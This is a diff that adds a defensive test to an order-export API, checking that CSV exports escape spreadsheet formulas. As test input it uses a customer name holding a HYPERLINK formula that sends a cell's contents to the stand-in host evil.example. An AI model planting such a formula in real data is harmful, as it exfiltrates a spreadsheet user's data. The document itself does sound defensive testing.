@@ -3,6 +3,7 @@ a bad file is refused whole, as a problem document or as a report file."""
 
 from __future__ import annotations
 
+import csv
 import io
 
 import httpx
@@ -156,6 +157,32 @@ def test_orders_go_out_to_excel_with_their_lines(live: LiveServer, api: httpx.Cl
     rows = [[c.value for c in row] for row in sheet.iter_rows()]
     assert rows[0][:3] == ["order_id", "external_id", "channel"]
     assert [(r[1], r[12], r[14]) for r in rows[1:]] == [("WEB-7", "KET", 2)]
+
+
+def test_an_order_export_never_hands_a_spreadsheet_a_formula(
+    live: LiveServer, api: httpx.Client
+) -> None:
+    """A marketplace buyer named ``=HYPERLINK(...)`` reaches the operator's Excel as text."""
+    from tests.factories import order_body
+
+    build_world_api(api, {("MSK", "KET"): 10})
+    name = '=HYPERLINK("http://evil.example/?"&B2,"Анна")'
+    body = order_body([("KET", 1)], external_id="-1+1")
+    body["customer"]["name"] = name
+    placed = api.post("/api/v1/orders", json=body)
+    assert placed.status_code == 201, placed.text
+
+    answer = api.get("/api/v1/files/orders", params={"customer": "true"})
+
+    assert answer.status_code == 200, answer.text
+    header, row = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
+    cells = dict(zip(header, row, strict=True))
+    assert cells["customer_name"] == "'" + name
+    assert cells["external_id"] == "'-1+1"
+    assert cells["quantity"] == "1"
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
+    (first,) = read_table(io.BytesIO(answer.content), FileFormat.CSV)
+    assert first.cells[1] == "-1+1"  # read back as it was written
 
 
 def test_customer_columns_need_the_personal_data_permission(live: LiveServer) -> None:
